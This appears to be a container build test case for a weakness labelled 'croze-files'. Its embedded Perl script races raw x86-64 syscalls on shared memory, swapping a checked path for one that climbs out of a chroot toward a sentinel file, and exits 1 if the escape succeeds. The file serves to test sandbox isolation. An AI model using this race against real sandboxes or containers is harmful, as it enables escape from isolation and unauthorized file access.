# A step changes a path after it was looked at and before it is used, once it has left its root if it can. The numbers are
# x86-64's.
# weakness: croze-files
FROM BASE/debian
RUN <<'SCRIPT'
perl -e '
    mkdir "/inner"; chroot "/inner";
    my $memory = syscall(9, 0, 4096, 3, 0x21, -1, 0);
    my $outside = "../" x 8 . substr("SENTRY/victim", 1);
    for (["tmp/own", "tmp/own\0"], ["tmp/other", "$outside\0"]) { open(my $f, ">", $_->[0]); print $f $_->[1] }
    open(my $own, "<", "tmp/own"); open(my $other, "<", "tmp/other");
    my $write = sub { syscall(17, fileno($_[0]), $memory, 128, 0) };
    $write->($own);
    my $child = fork // die;
    if (!$child) { while (1) { $write->($other); $write->($own) } }
    my $times = pack("q4", 1, 0, 1, 0);
    my $reached;
    for (1 .. 2000) {
        syscall(280, -100, $memory, $times, 0);
        my $fd = syscall(257, -100, $memory, 0);
        next if $fd < 0;
        my $text = "\0" x 9;
        syscall(0, $fd, $text, 9);
        syscall(3, $fd);
        $reached = 1 if $text eq "untouched";
    }
    kill "KILL", $child;
    exit($reached ? 1 : 0)'
SCRIPT
